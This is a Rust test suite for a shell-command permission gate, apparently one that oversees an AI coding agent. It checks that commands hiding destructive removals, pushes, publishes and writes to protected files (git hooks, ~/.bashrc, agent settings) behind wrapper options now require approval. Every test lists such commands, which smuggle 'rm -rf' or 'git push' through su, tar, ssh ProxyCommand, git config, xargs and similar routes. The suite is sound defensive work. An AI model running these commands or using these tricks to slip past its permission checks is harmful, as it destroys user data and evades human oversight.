//! The fourth outside attack, on how options are read (docs/permissions.md, "Fail
//! closed"). Every case here was allowed before — the removals in bypass too —
//! and must now ask. The guards keep ordinary commands allowed.

use crate::common;

use common::{run, Proj};

/// Critical removals hidden by options: they ask in auto and in bypass.
#[test]
fn r4_01_critical_removals_behind_options() {
    let p = Proj::new();
    let g = p.gate(&[], &[], &[]);
    let mut cases = Vec::new();
    for c in [
        "env --ch=/ rm -rf home",
        "env --chdi=/ rm -rf home",
        "env --sp='rm -rf /home'",
        "env --split-s='rm -rf /home'",
        "su --comm='rm -rf /home'",
        "su -lc 'rm -rf /home'",
        "su --session-command='rm -rf /home'",
        "su - -c 'rm -rf ../usr'",
        "sudo -i rm -rf ../usr",
        "setpriv rm -rf /home",
        "setpriv --reuid 0 --init-groups rm -rf /home",
        "runuser -u x rm -rf /home",
        "runuser root -c 'rm -rf /home'",
        "script -q --comm 'rm -rf /home' /dev/null",
        "strace -o '|rm -rf /home' true",
        "strace -o'!rm -rf /home' true",
        "parallel rm -rf ::: /home",
        "parallel -a list rm -rf",
        "parallel --will-cite rm -rf ::: /home",
        "parallel 'rm -rf {}' ::: /home",
        "systemd-run rm -rf home",
        "systemd-run -p WorkingDirectory=/ rm -rf home",
        "systemd-run -t rm -rf usr",
        "npx -p x -c 'rm -rf /home'",
        "npm exec --package x -c 'rm -rf /home'",
        "yarn exec 'rm -rf /home'",
    ] {
        cases.push(("auto", "bash", c, "ask"));
        cases.push(("bypass", "bash", c, "ask"));
    }
    // The same wrappers, running what is ordinary.
    for c in [
        "env --ch=src ls",
        "systemd-run --same-dir make",
        "parallel gzip ::: a b",
        "npx -p typescript tsc --noEmit",
    ] {
        cases.push(("auto", "bash", c, "allow"));
    }
    run(&p, &g, &cases);
}

/// External effects behind options.
#[test]
fn r4_02_pushes_behind_options() {
    let p = Proj::new();
    let g = p.gate(&[], &[], &[]);
    let mut cases = Vec::new();
    for c in [
        "git -c remote.origin.uploadpack='git push' fetch origin",
        "git fetch-pack --upload-pack='git push' origin",
        "git -c protocol.ext.allow=always fetch 'ext::sh -c touch% x'",
        "git -c merge.x.driver='touch x' merge b",
        "cargo --color never publish",
        "pnpm -w publish",
        "pnpm -rw publish",
        "git subtree -P x push o m",
        "git subtree -q -P x push o m",
        "yarn workspaces foreach -A -j 4 npm publish",
        "yarn workspaces foreach --jobs 4 npm publish",
        "vercel --global-config ls",
        "docker buildx build -o type=image,push=true .",
        "docker buildx build --output=push=true,type=image .",
        "docker buildx bake --set '*.push=true'",
        "docker builder build --push .",
        "echo push | xargs git",
        "xargs -a l git",
        "parallel git ::: push",
        "npm exec -p x -c 'git push'",
        "git http-push https://example.com/r main",
    ] {
        cases.push(("auto", "bash", c, "ask"));
    }
    for c in [
        "cargo --color never build",
        "pnpm -w install",
        "git subtree -P x split",
    ] {
        cases.push(("auto", "bash", c, "allow"));
    }
    run(&p, &g, &cases);
}

/// Writes to protected files, or to paths only known when the command runs.
#[test]
fn r4_03_writes_behind_options() {
    let p = Proj::new();
    let g = p.gate(&[], &[], &[]);
    let mut cases = Vec::new();
    for c in [
        "cp -b -S rc /tmp/y ~/.bash",
        "mv -b -S .json z .decode/settings",
        "cp -b /tmp/y ~/.bash",
        "sed -i'.git/hooks/*' s/a/a/ pre-commit",
        "sed -irc s/a/b/ ~/.bash",
        "sed -i\"$D\" s/a/b/ f",
        "shuf -o.git/config y",
        "shuf -vo.git/config y",
        "strace -o.git/hooks/pre-commit true",
        "strace -o $D true",
        "iconv -f utf8 -t utf8 -o.git/config x",
        "script $D",
        "script -q .git/hooks/pre-commit",
        "tar -cf $D x",
        "tar cf $D x",
        "tar -rf $D x",
        "tar --listed-incremental=$D -cf a.tar x",
        "tar -xf a.tar --one-top-level=$D",
        "wget -e output_document=.git/config https://example.com/x",
        "wget --execute=dir_prefix=.git/hooks https://example.com/pre-commit",
        "wget -x -nH http://h/.git/hooks/pre-commit",
        "wget --save-cookies $D https://example.com/x",
        "curl --output-dir ~ -o .bashrc https://example.com/x",
        "curl --etag-save $D https://example.com/x",
        "curl --libcurl $D https://example.com/x",
        "curl -w '%output{.git/config}x' https://example.com/x",
        "gcc --output=$D x.c",
        "gcc -Wl,-o,$D x.c",
        "cc -MD -MF $D -c x.c",
        "rsync --log-file=$D a b",
        "rsync --write-batch=$D a b",
        "rsync -b --backup-dir=$D a b",
        "git config -f $D a.b c",
        "gunzip .decode/settings.json.gz",
        "gunzip ~/.bashrc.gz",
        "unxz ~/.zshrc.xz",
        "gzip -S rc ~/.bash",
        "rename x rc ~/.bashx",
    ] {
        cases.push(("auto", "bash", c, "ask"));
    }
    for c in [
        "cp -v a b",
        "sed -i s/a/b/ src/f",
        "sed -i.bak s/a/b/ src/f",
        "tar -xzf a.tgz",
        "tar -czf out.tgz src",
        "gcc -o out x.c",
        "gunzip data.gz",
        "curl -sSLo out.json https://example.com/x",
        "wget -q https://example.com/x.tar.gz",
    ] {
        cases.push(("auto", "bash", c, "allow"));
    }
    run(&p, &g, &cases);
}

/// The second attack on this round's fixes: critical removals.
#[test]
fn r4_04_critical_removals_second_attack() {
    let p = Proj::new();
    let g = p.gate(&[], &[], &[]);
    let mut cases = Vec::new();
    for c in [
        "su root -- -c 'rm -rf /'",
        "su -- root -c 'rm -rf /'",
        "su - root -- -c 'rm -rf ~'",
        "runuser root -- -c 'rm -rf /'",
        "su -s /bin/rm root -- -rf /",
        "su --shell=/bin/rm root -- -rf ~",
        "unshare -R / rm -rf home",
        "unshare -R/ rm -rf home",
        "unshare --ro=/ rm -rf home",
        "pkexec rm -rf ../root",
        "pkexec find ../../usr -delete",
        "start-stop-daemon --start --chdir / --exec /bin/rm -- -rf home",
        "foo run /bin/rm -rf /",
        "split --filter='rm -rf ~' x",
        "split --fi='rm -rf ~' x",
        "zip -T -TT 'rm -rf ~;' x.zip y",
        "gcc -wrapper sh,-c,'rm -rf ~',x -c x.c",
        "make --eval '$(shell rm -rf ~)'",
        "make -E '$(shell rm -rf ~)'",
        "systemd-run -p ExecStartPre='/bin/rm -rf /home' true",
        "tar --checkpoint-act=exec='rm -rf ~' -cf x.tar y",
        "tar --checkpoint-action exec='rm -rf ~' -cf x.tar y",
        "tar --checkpoint-action=echo,exec='rm -rf ~' -cf x.tar y",
        "tar --to-comm='rm -rf ~' -xf x.tar",
        "tar --use-comp='rm -rf /' -cf x.tar y",
        "tar -cI'rm -rf /' -f x.tar y",
        "tar -cMF 'rm -rf /' -f x.tar y",
        "scp -o ProxyCommand='rm -rf ~' a h:b",
        "sftp -oKnownHostsCommand='rm -rf ~' h",
        "ssh -qo ProxyCommand='rm -rf /' h",
        "ssh -o ProxyCommand=\"rm -rf $HOME\" h",
        "GIT_SSH_COMMAND=\"rm -rf /home $X\" git fetch",
        "rsync -e \"rm -rf /home $X\" a h:b",
        "git remote-ext x 'rm -rf /'",
        "git -c protocol.ext.allow=always -c remote.o.url='ext::sh -c rm% -rf% /home' fetch o",
        "uv --directory / run rm -rf home",
        "poetry -C / run rm -rf home",
        "pnpm exec sh -c 'rm -rf /'",
        "pnpm dlx sh -c 'rm -rf /'",
        "mise exec -- sh -c 'rm -rf /'",
        "direnv exec . bash -c 'rm -rf /'",
        "cmake -E chdir / sh -c 'rm -rf home'",
    ] {
        cases.push(("auto", "bash", c, "ask"));
        cases.push(("bypass", "bash", c, "ask"));
    }
    for c in [
        "ssh -o ConnectTimeout=5 h uptime",
        "tar -czf out.tgz src",
        "mise exec -- cargo test",
        "pnpm exec tsc",
    ] {
        cases.push(("auto", "bash", c, "allow"));
    }
    run(&p, &g, &cases);
}

/// The second attack: writes and external effects in auto.
#[test]
fn r4_05_writes_and_pushes_second_attack() {
    let p = Proj::new();
    let g = p.gate(&[], &[], &[]);
    let mut cases = Vec::new();
    for c in [
        "git --work-tree=$HOME checkout -f -- .bashrc",
        "git --work-tree=$HOME reset --hard",
        "git checkout-index --prefix=$HOME/ .bashrc",
        "split -x -n13 -a1 x ~/.bashr",
        "patch -b -z rc ~/.bash x",
        "patch -b ~/.bash x",
        "sed --in-pl=rc s/a/b/ ~/.bash",
        "perl -i'*rc' -pe 1 ~/.bash",
        "perl -pi -e s/a/b/ $D",
        "rsync --backup --suffix rc x ~/.bash",
        "tar -C ~ -xf a.tar .bashrc",
        "unzip x.zip .bashrc -d ~",
        "git -c init.templateDir=x init y",
        "docker compose -f x push",
        "docker compose -f a -f b push",
        "docker compose build --push",
        "docker plugin push x",
        "docker buildx build --output type=image,push=1 .",
        "docker buildx build --output type=image,push .",
        "docker buildx bake --set=x.output=type=image,push=1",
        "echo push | xargs -I{} git {}",
        "echo push | xargs -i git {}",
        "find push -exec git {} \\;",
        "git -c help.autocorrect=immediate pus origin main",
        "gh alias set co 'pr create'",
        "/usr/lib/git-core/git-http-push x",
        "git remote-https origin https://example.com/r",
        "git -c protocol.allow=always submodule update",
        "git branch -Mf x main",
        "git branch -fM x main",
        "git branch -vf main x",
        "git fetch origin '+refs/heads/*:refs/heads/*'",
        "docker compose rm",
        "podman pod rm p",
        "./gradlew publishAllPublicationsToMavenRepository",
        "gradle publishPlugins",
        "git annex push",
        "terraform state push x",
        "git svn dcommit",
    ] {
        cases.push(("auto", "bash", c, "ask"));
    }
    for c in [
        "docker buildx build --output type=image,push=false .",
        "git branch -v",
        "git fetch origin",
        "perl -ne 'print' src/f",
        "patch -p1 -i fix.diff",
        "./gradlew build",
    ] {
        cases.push(("auto", "bash", c, "allow"));
    }
    run(&p, &g, &cases);
}

/// The third attack: critical removals (bypass too).
#[test]
fn r4_06_critical_removals_third_attack() {
    let p = Proj::new();
    let g = p.gate(&[], &[], &[]);
    let mut cases = Vec::new();
    for c in [
        "bash -oc posix 'rm -rf ~'",
        "sh -oc errexit 'rm -rf /home'",
        "bash -Oc extglob 'rm -rf /'",
        "bash -eoc pipefail 'rm -rf /'",
        "bash -c -eo pipefail 'rm -rf /'",
        "su root -- -oc posix 'rm -rf /'",
        "echo rm -rf /home | xargs env",
        "echo rm -rf /home | xargs nice -n 5",
        "echo rm -rf /home | xargs timeout 5",
        "xargs env <<< 'rm -rf /home'",
        "xargs -0 sh -c < list",
        "find /usr/bin -name rm -exec {} -rf /home \\;",
        "PWD=/; rm -rf $PWD/home",
        "unset PWD; rm -rf $PWD/home",
        "for PWD in /; do rm -rf $PWD/home; done",
        "TMPDIR=/; rm -rf $TMPDIR/home",
        "unset TMPDIR; rm -rf \"$TMPDIR/home\"",
        "env -S 'rm -rf /home/\\cx/y'",
        "ln -s / r; find -L . -maxdepth 2 -name home -exec rm -rf {} +",
        "find -L . -delete",
        "tar cIf 'rm -rf /home;:' x.tar .",
        "git grep -O'rm -rf ~;:' x",
        "git grep --open-files-in-pager='rm -rf ~;:' x",
        "git filter-branch --tree-filter 'rm -rf /home' HEAD",
        "git filter-branch --setup 'rm -rf /home' HEAD",
        "git rebase --ex 'rm -rf /home' main",
        "git rebase -ix 'rm -rf /home' main",
        "git difftool -yx 'rm -rf /home;:'",
        "git clone -c core.sshCommand='rm -rf /home;:' h:r d",
        "env 'BASH_FUNC_ls%%=() { rm -rf /home; }' bash -c ls",
        "rg --pre rm -uuu x /",
        "rmdir -p ~/x",
        "rmdir -p /home/u/x",
        "man -P 'rm -rf /home' ls",
    ] {
        cases.push(("auto", "bash", c, "ask"));
        cases.push(("bypass", "bash", c, "ask"));
    }
    for c in [
        "bash -c 'make test'",
        "find . -name '*.o' -exec rm {} +",
        "find . -type f -exec sh -c 'wc -l \"$1\"' _ {} \\;",
        "git ls-files | xargs -I{} wc -l {}",
        "git grep -n TODO",
        "git rebase --onto main a b",
        "rg --pre-glob '*.gz' TODO",
        "rmdir -p build/a/b",
        "rm -rf $TMPDIR/decode-test",
    ] {
        cases.push(("auto", "bash", c, "allow"));
    }
    run(&p, &g, &cases);
}

/// The third attack: auto only.
#[test]
fn r4_07_auto_third_attack() {
    let p = Proj::new();
    let g = p.gate(&[], &[], &[]);
    let mut cases = Vec::new();
    for c in [
        "bash -oc posix 'git push'",
        "echo git push | xargs env",
        "tar xIf 'git push;cat' x.tar",
        "git grep -O'git push;:' x",
        "cd ~ && gunzip -N x.gz",
        "tar -xPf x.tar",
    ] {
        cases.push(("auto", "bash", c, "ask"));
    }
    run(&p, &g, &cases);
}

/// The fourth attack: folders git and the package managers move commands to,
/// shells started by default, and options given through the environment.
#[test]
fn r4_08_fourth_attack() {
    let p = Proj::new();
    let g = p.gate(&[], &[], &[]);
    let mut cases = Vec::new();
    for c in [
        "npm exec --workspace x -- rm -rf ../../p",
        "npm -w x exec -- rm -rf ../../p",
        "npm exec --ws -- rm -rf ../../p",
        "pnpm --filter x exec rm -rf ../../p",
        "pnpm -r exec rm -rf ../../p",
        "yarn workspace x exec rm -rf ../../p",
        "cd x && git bisect run rm -rf ../p",
        "git -C x bisect run rm -rf ../p",
        "cd x && git difftool -y -x 'rm -rf ../p'",
        "git submodule foreach rm -rf ../../p",
        "git --shallow-file x bisect run rm -rf ~",
        "unshare -r <<< 'rm -rf ~'",
        "chroot / <<< 'rm -rf ~'",
        "newgrp <<< 'rm -rf ~'",
        "fakeroot <<< 'rm -rf ~'",
        "setarch x86_64 <<< 'rm -rf ~'",
        "script -q /dev/null <<< 'rm -rf ~'",
        "su <<< 'rm -rf ~'",
        "perf stat bash <<< 'rm -rf ~'",
        "capsh --shell=/bin/rm -- -rf ~",
        "capsh -- -c 'rm -rf ~'",
        "SHELL=/bin/rm su -p root -- -rf ~",
        "npm explore x -- rm -rf ~",
        "cargo --config 'target.x86_64-unknown-linux-gnu.runner=\"rm\"' run -- -rf ~",
        "cargo run --config 'target.x86_64-unknown-linux-gnu.runner=\"rm\"' -- -rf ~",
        "sftp -D 'rm -rf /usr' h",
        "RSYNC_RSH='rm -rf ~' rsync a h:b",
        "git send-email --to-cmd='rm -rf ~' a.patch",
        "git -c sendemail.toCmd='rm -rf ~' send-email a.patch",
        "git -c imap.tunnel='rm -rf ~' imap-send",
        "git -c submodule.x.update='!rm -rf ~' submodule update",
        "git -c interactive.diffFilter='rm -rf ~' add -p",
        "podman unshare rm -rf ~",
    ] {
        cases.push(("auto", "bash", c, "ask"));
        cases.push(("bypass", "bash", c, "ask"));
    }
    for c in [
        "git --shallow-file x config core.fsmonitor 'rm -rf ~'",
        "git --shallow-file x branch -f master",
        "TAR_OPTIONS='--to-command=rm -rf ~' tar xf a.tar",
        "MAKEFLAGS='--eval=a:;rm -rf ~' make a",
        "ZIPOPT='-TT \"rm -rf ~\"' zip -T a.zip x",
        "npm exec --workspace x -- touch ../.decode/settings.json",
        "echo 'git push' | newgrp",
        "npm explore x -- git push",
    ] {
        cases.push(("auto", "bash", c, "ask"));
    }
    for c in [
        "npm exec -w x -- tsc",
        "git bisect run cargo test",
        "git submodule foreach git status",
        "cargo run -- --help",
        "which bash",
    ] {
        cases.push(("auto", "bash", c, "allow"));
    }
    run(&p, &g, &cases);
}
